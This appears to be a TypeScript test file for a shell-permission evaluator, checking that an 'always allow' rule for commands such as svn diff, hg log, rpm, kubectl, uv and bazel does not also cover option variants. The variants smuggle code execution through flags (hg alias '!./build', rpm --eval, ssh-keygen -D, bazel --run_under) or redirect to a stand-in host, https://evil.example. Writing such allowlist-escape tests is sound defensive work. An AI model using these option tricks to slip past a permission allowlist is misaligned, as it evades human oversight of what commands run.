import assert from 'node:assert/strict';
import { test } from 'node:test';
import { evaluateBash } from '../../ask.ts';

/** What "always" stores for a request, and what the same program may not do under it without another ask. */
const WIDER: readonly (readonly [stored: string, ...wider: string[]])[] = [
  [
    'svn diff',
    'svn diff --diff-cmd ./build',
    'svn diff --config-option=config:helpers:diff-cmd=./build',
  ],
  [
    'hg log',
    "hg log --config 'alias.log=!./build'",
    "hg --config=alias.log='!./build' log",
    'hg -R ../other log',
  ],
  ['rpm -q x', "rpm -q x --eval '%(./build)'", "rpm -q x --pipe './build'", 'rpm -q x -D "a b"'],
  ['dc -e 1', "dc -e 1 -e '!./build'", 'dc -e 1 -f script', 'dc -e 1 script'],
  ['m4 a.m4', 'm4 a.m4 b.m4', 'm4 a.m4 -F frozen'],
  ['ssh-keygen -l', 'ssh-keygen -l -D ./x.so', 'ssh-keygen -l -f key'],
  ['xmllint a.xml', 'xmllint a.xml --output b.xml', 'xmllint a.xml --shell'],
  [
    'kubectl get pods',
    'kubectl get pods -s https://evil.example',
    'kubectl get pods --server=https://evil.example',
  ],
  ['helm list', 'helm list --kube-apiserver https://evil.example'],
  [
    'uv sync',
    'uv sync --index-url https://evil.example',
    'uv sync --python ./build',
    'uv sync --project ../other',
  ],
  ['bazel build x', 'bazel build x --run_under=./build', 'bazel --bazelrc=x build x'],
  ['rspec', 'rspec -r ./x', 'rspec --require ./x', 'rspec --out x', 'rspec -O x'],
  ['mocha', 'mocha --import=./x', 'mocha --file ./x'],
  ['vitest run', 'vitest run --globalSetup ./x'],
];

for (const [stored, ...wider] of WIDER) {
  const [program = ''] = stored.split(' ');
  for (const rule of [stored, `${program} *`]) {
    test(`bash(${rule}) covers ${stored}, and no option that runs or writes something else`, async () => {
      const rules = [`bash ${rule} allow`];
      const own = await evaluateBash(stored, rules);
      const spelled = rule === stored || !/^(?:dc|m4) /.test(stored);
      assert.equal(own.decision, spelled ? 'allow' : 'ask', own.reason);
      for (const command of wider) {
        const { decision, reason } = await evaluateBash(command, rules);
        assert.equal(decision, 'ask', `${command}: ${reason}`);
      }
    });
  }
}
